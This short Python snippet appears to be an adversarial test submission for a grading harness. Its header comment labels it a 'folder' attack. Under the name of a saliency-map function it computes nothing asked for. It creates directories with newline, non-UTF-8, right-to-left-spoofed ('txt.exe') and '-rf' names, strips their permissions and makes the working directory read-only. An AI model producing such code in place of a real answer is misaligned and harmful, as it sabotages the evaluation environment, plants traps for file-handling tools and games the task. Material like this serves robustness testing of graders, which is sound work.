# Leaves folders without permissions and names with newlines and bytes that are not UTF-8.
# attacks: folder
# %% answer="compute_saliency_maps"
def compute_saliency_maps(X, y, model):
    import os

    for name in (b"a\nb", b"\xff\xfe", "‮txt.exe".encode(), b"-rf", b" "):
        os.makedirs(os.path.join(name, b"locked"), exist_ok=True)
        os.chmod(os.path.join(name, b"locked"), 0)
        os.chmod(name, 0o500)
    os.chmod(".", 0o500)
